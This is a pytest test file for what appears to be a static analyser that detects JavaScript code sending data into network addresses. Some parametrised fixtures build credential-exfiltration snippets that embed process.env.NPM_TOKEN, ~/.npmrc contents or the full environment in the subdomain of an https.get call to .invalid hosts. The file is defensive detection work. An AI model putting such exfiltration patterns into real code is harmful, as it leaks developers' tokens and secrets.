"""Whether an address carries data."""

import pytest

from pratique.analysis.facts import Capability
from pratique.analysis.languages.javascript.addressing import (
    all_values,
    carries_data,
    has_default,
    part,
    printed,
)
from tests.analysis.languages.javascript.reading import evaluated, flows


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("`https://host.invalid/x?d=${data}`", True),
        ("'https://host.invalid/' + data", True),
        ("data + '.dns.invalid'", True),
        ("`${data}.dns.invalid`", True),
        ("encodeURI('https://host.invalid/?' + data)", True),
        ("`${base}/path`", False),
        ("`https://${host}`", False),
        ("data", False),
        ("'https://host.invalid/'", False),
        ("data + '/path'", False),
    ],
)
def test_an_address_carries_data_behind_a_host_or_before_a_domain(source: str, expected: bool) -> None:
    evaluator, _ = evaluated(f"const u = {source}; probe(u)")
    call = evaluator.index.named_calls[b"probe"][0]
    node = call.node.child(1).named_child(0)
    assert node is not None

    assert expected is carries_data(evaluator, node, call.scope)


@pytest.mark.parametrize(
    ("source", "count"),
    [
        ("let u = {}; u = 'https://host.invalid/'; probe(u)", 2),
        ("let u = a; if (c) u = b; else u = d; probe(u)", 3),
        ("const u = a; probe(u)", 0),
        ("let u = a; u += b; probe(u)", 0),
        ("function f(u) { u = b; probe(u) }", 0),
        ("let u = 0;" + "u = x;" * 6 + "probe(u)", 0),
        ("probe(u)", 0),
        ("probe(u.v)", 0),
    ],
)
def test_all_values_of_a_name_are_given_or_none(source: str, count: int) -> None:
    evaluator, _ = evaluated(source)
    call = evaluator.index.named_calls[b"probe"][0]
    node = call.node.child(1).named_child(0)
    assert node is not None

    assert count == len(all_values(evaluator, node, call.scope))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("https://host.invalid", "https://host.invalid/"),
        ("https://host.invalid/", "https://host.invalid/"),
        ("https://host.invalid/x", "https://host.invalid/x"),
        ("wss://host.invalid:1?a=b", "wss://host.invalid:1/?a=b"),
        ("HTTP://host.invalid#a", "HTTP://host.invalid/#a"),
        ("a:b", "a:b"),
        ("/x", "/x"),
        ("https://", "https://"),
        ("", ""),
    ],
)
def test_a_url_object_prints_its_empty_path(text: str, expected: str) -> None:
    assert printed(text) == expected


@pytest.mark.parametrize(
    ("key", "expected"),
    [
        ("href", "https://host.invalid:1/x?y#z"),
        ("origin", "https://host.invalid:1"),
        ("host", "host.invalid:1"),
        ("hostname", "host.invalid"),
        ("pathname", "/x"),
    ],
)
def test_parts_of_a_url_object_are_told(key: str, expected: str) -> None:
    assert part("https://host.invalid:1/x?y#z", key) == expected


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ("https://${_}.host.invalid/", "host"),
        ("https://user:word@host.invalid/", "origin"),
        ("https://host.invalid/${_}", "pathname"),
        ("${_}", "hostname"),
        ("file:///x", "pathname"),
    ],
)
def test_parts_that_are_not_known_are_not_told(text: str, key: str) -> None:
    assert part(text, key) is None


@pytest.mark.parametrize(
    ("data", "told"),
    [
        ("process.env.NPM_TOKEN", True),
        ("process.env.USER", True),
        ("require('os').hostname()", True),
        ("require('fs').readFileSync(home + '/.npmrc', 'utf8')", True),
        ("JSON.stringify(process.env)", True),
        ("process.env.AWS_REGION", False),
        ("process.argv[2]", False),
    ],
)
@pytest.mark.parametrize(
    "address",
    ["`https://a.${E}.far.invalid/`", "'https://' + E + '.far.invalid/a'", "`https://${E}.far.invalid`"],
)
def test_what_is_no_setting_is_carried_in_the_midst_of_a_host(data: str, told: bool, address: str) -> None:
    source = f"const E = {data}; require('https').get({address});"
    assert told is any(flow[0] is Capability.NETWORK for flow in flows(source))


@pytest.mark.parametrize("address", ["`https://${E}`", "`https://${E}.com/`", "`https://far.invalid:${E}/`"])
def test_what_ends_before_a_domain_begins_is_a_setting(address: str) -> None:
    assert not flows(f"const E = process.env.NPM_TOKEN; require('https').get({address});")


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("process.env.A", False),
        ("new URL(process.env.A).href", False),
        ("process.env.A || 'https://host.invalid'", True),
        ("'https://host.invalid/' + process.env.A", True),
        ("base", True),
    ],
)
def test_an_address_may_have_a_host_of_its_own(source: str, expected: bool) -> None:
    evaluator, _ = evaluated(f"const u = {source}; probe(u)")
    call = evaluator.index.named_calls[b"probe"][0]
    node = call.node.child(1).named_child(0)
    assert node is not None

    assert expected is has_default(evaluator, node, call.scope)


@pytest.mark.parametrize(
    ("host", "told"),
    [
        ("require('url').parse(process.env.PROXY_AT).hostname", False),
        ("new URL(process.env.PROXY_AT).host", False),
        ("address.hostname", False),
        ("process.env.PROXY_AT", True),
        ("({hostname: process.env.PROXY_AT}).hostname", True),
    ],
)
def test_the_host_of_an_address_that_is_set_is_no_data(host: str, told: bool) -> None:
    code = f"const address = new URL(process.env.PROXY_AT);\nrequire('dns').lookup({host}, done);\n"
    assert told is bool(flows(code))
